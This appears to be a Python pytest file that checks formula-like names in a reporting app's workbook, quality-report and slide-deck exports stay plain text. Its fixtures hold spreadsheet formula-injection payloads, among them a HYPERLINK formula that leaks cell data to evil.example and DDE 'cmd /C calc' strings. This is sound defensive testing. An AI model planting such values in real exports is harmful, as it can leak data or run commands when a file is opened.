"""No export carries a live formula that came from the data: names, file names and titles stay text.

The demo collaborative, copied, with every name a person or a return can set made to look like a
formula (``=HYPERLINK(...)``, ``+cmd``, ``-1+1``, ``@SUM(A1)``): the workbook, the data-quality
report and every chart workbook embedded in the deck (``ppt/embeddings/*.xlsx``, which python-pptx
writes with XlsxWriter) are opened with openpyxl and must hold no formula cell, and each such text
cell carries Excel's quote prefix, so it stays text when someone edits it.
"""

from __future__ import annotations

import dataclasses
import io
import re
import zipfile

import openpyxl
import pytest

from contract.periods import Period
from exports import quality
from exports.csv_safe import RISKY_STARTS
from exports.data import gather
from exports.deck import build_deck
from exports.workbook import build_workbook
from store import db, members, settings
from store import joint_work as register_store
from tests.demo_db import copy_of
from tests.exports_fixtures import FIXED_NOW

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Totals")'
NAMES = {"ASH": LEAK, "BIR": "+cmd", "ELM": "-1+1", "OAK": "@SUM(A1)", "WIL": "http://evil.example/willow"}
COLLABORATIVE = "=cmd|' /C calc'!A0"
SENT_BY = '=cmd|" /C calc"!A0'
FILE_NAME = "=SUM(A1).xlsx"
TITLE = "=1+1 joint appeal"


@pytest.fixture(scope="module")
def formulas_db(demo_db_file, tmp_path_factory):
    """The demo with formula-like member names, collaborative name, sender, file names and a project title."""
    path = copy_of(demo_db_file, tmp_path_factory.mktemp("formulas"), "formulas.duckdb")
    with db.connect(path) as con, db.transaction(con):
        for code, name in NAMES.items():
            members.upsert(con, dataclasses.replace(members.get(con, code), name=name))
        settings.put(con, "collaborative_name", COLLABORATIVE)
        con.execute("update submissions set sent_by = $1, file_name = $2", [SENT_BY, FILE_NAME])
    with db.connect(path) as con, db.transaction(con):
        register = register_store.current(con)
        project = register.projects[0]
        renamed = dataclasses.replace(project, title=TITLE)
        register_store.put_project(con, renamed, register.outcomes_of(project.title), replacing=project.title)
    return path


@pytest.fixture(scope="module")
def data(formulas_db):
    with db.connect(formulas_db) as con:
        return gather(con, Period.parse("2024/25"), now=FIXED_NOW)


def cells(book) -> list:
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_text_only(content: bytes, where: str) -> list:
    """No formula cell, no link, and every text cell a spreadsheet would run marked as text; its text cells."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    found = cells(book)
    assert [c.coordinate for c in found if c.data_type == "f"] == [], where
    assert [c.coordinate for c in found if c.hyperlink is not None] == [], where
    risky = [c for c in found if isinstance(c.value, str) and c.value.startswith(RISKY_STARTS)]
    assert [c.coordinate for c in risky if not c.quotePrefix] == [], where
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name)]
        assert not [name for name in sheets if re.search(rb"<f[ >]", archive.read(name))], where
    return [c.value for c in found if isinstance(c.value, str)]


def test_the_workbook_holds_every_name_as_text(data):
    texts = "\n".join(assert_text_only(build_workbook(data), "workbook"))
    for text in [*NAMES.values(), COLLABORATIVE, FILE_NAME, TITLE]:
        assert text in texts


def embedded(deck: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(deck)) as archive:
        return {name: archive.read(name) for name in archive.namelist() if name.startswith("ppt/embeddings/")}


def test_every_chart_workbook_in_the_deck_holds_its_names_as_text(data):
    books = embedded(build_deck(data))
    assert len(books) >= 7 and all(name.endswith(".xlsx") for name in books)
    texts = [text for name, content in books.items() for text in assert_text_only(content, name)]
    for name in NAMES.values():
        assert name in texts  # written as it is: a member's name reads the same on the slide and in the sheet


def test_the_slides_show_the_names_as_written(data):
    from pptx import Presentation

    deck = Presentation(io.BytesIO(build_deck(data)))
    labels = [
        label
        for slide in deck.slides
        for shape in slide.shapes
        if shape.has_chart
        for plot in shape.chart.plots
        for label in plot.categories
    ]
    assert LEAK in labels and "+cmd" in labels


def test_the_quality_reports_hold_the_names_as_text(formulas_db):
    with db.connect(formulas_db) as con:
        submission = con.execute("select max(submission_id) from submissions").fetchone()[0]
        report = quality.accepted_report(con, submission, collaborative=COLLABORATIVE)
    texts = assert_text_only(report, "accepted report")
    assert any(COLLABORATIVE in text for text in texts)
    refused = quality.refused_report("+cmd.xlsx", [], "-1+1", member="ASH", period="2024/25 Q1")
    assert_text_only(refused, "refused report")


@pytest.mark.parametrize("text", ["=1+1", "+cmd", "-1+1", "@SUM(A1)", "\tTab", "\rReturn", "{=SUM(A1)}"])
def test_a_chart_category_of_any_risky_form_stays_text(text):
    from pptx import Presentation
    from pptx.chart.data import CategoryChartData
    from pptx.enum.chart import XL_CHART_TYPE
    from pptx.util import Inches

    from exports.deck import _text_stays_text

    deck = Presentation()
    slide = deck.slides.add_slide(deck.slide_layouts[6])
    chart_data = CategoryChartData()
    chart_data.categories = [text, "Plain"]
    chart_data.add_series(text, [1, 2])
    frame = slide.shapes.add_chart(XL_CHART_TYPE.BAR_CLUSTERED, 0, 0, Inches(4), Inches(3), chart_data)
    _text_stays_text(frame, [text, "Plain"], [text])
    buffer = io.BytesIO()
    deck.save(buffer)
    (content,) = embedded(buffer.getvalue()).values()
    assert assert_text_only(content, text).count(text) == 2
